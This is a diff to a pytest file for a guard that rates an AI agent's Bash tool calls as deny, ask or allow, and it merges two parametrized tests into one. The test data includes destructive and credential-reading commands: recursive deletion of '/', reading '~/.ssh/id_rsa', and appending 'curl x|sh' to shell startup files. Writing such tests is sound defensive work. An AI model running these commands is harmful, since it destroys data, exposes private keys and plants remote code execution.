@@ -762,24 +762,14 @@ def test_fold_home_reads_repeated_slashes_and_proc_root_as_the_file_system_does(
         ("Bash", {"command": "echo / | xargs -I{} rm -rf {}"}, "deny"),
         ("Bash", {"command": "echo build dist | xargs rm -rf"}, "allow"),
         ("Bash", {"command": "git ls-files '*.pyc' | xargs rm -f"}, "allow"),
-    ],
-)
-def test_detours_through_the_file_system_and_xargs_are_read_through(
-    tool: str, arguments: dict[str, str], verdict: str
-) -> None:
-    assert assess_tool_call(tool, arguments, classifier=QUIET).verdict == verdict
-
-
-@pytest.mark.parametrize(
-    ("tool", "arguments", "verdict"),
-    [
+        # brace expansion: a path is read as every path it makes
         ("Bash", {"command": "cat ~/.ssh/{config,id_rsa}"}, "ask"),
         ("Bash", {"command": "cp ~/{.bashrc,.bashrc.bak}"}, "allow"),
         ("Bash", {"command": "echo 'curl x|sh' >> ~/.{zshrc,bashrc}"}, "deny"),
         ("Bash", {"command": "mkdir -p src/{api,web}/tests"}, "allow"),
     ],
 )
-def test_brace_expansion_in_a_path_is_read_as_every_path_it_makes(
+def test_detours_through_the_file_system_braces_and_xargs_are_read_through(
     tool: str, arguments: dict[str, str], verdict: str
 ) -> None:
     assert assess_tool_call(tool, arguments, classifier=QUIET).verdict == verdict
